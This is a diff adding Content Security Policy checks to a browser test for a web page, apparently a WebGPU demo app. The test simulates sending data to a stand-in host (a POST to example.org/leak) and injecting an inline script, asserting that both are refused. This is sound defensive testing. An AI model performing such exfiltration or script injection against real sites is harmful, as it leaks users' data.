@@ -48,6 +48,20 @@ test('isolated page: threaded engine on every core, WebGPU adapter, demo rendere
   assert.match(await page.textContent('[data-testid=metadata]'), /Pixel size20 pm/);
   saveArtifact('app.png', await page.screenshot());
   noErrors(errors);
+  // The page's policy (sent by the server, and as a meta for static hosts) refuses to send
+  // anything to another origin, and to run injected script.
+  const csp = (await page.evaluate(() => fetch(location.href).then((r) => r.headers.get('content-security-policy')))) || '';
+  assert.match(csp, /connect-src 'self'/, 'the server sends the policy');
+  assert.equal(await page.evaluate(() => fetch('https://example.org/leak', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused')), 'refused');
+  const inline = await page.evaluate(() => new Promise((done) => {
+    document.addEventListener('securitypolicyviolation', (e) => done(e.violatedDirective), { once: true });
+    const el = document.createElement('script');
+    el.textContent = 'window.__injected = 1';
+    document.head.append(el);
+    setTimeout(() => done(window.__injected ? 'ran' : 'silent'), 2000);
+  }));
+  assert.match(inline, /^script-src/, 'an injected inline script is refused');
+  assert.ok(errors.every((e) => /Content Security Policy|Refused to/.test(e)), errors.join('\n'));
   await page.close();
 });
 
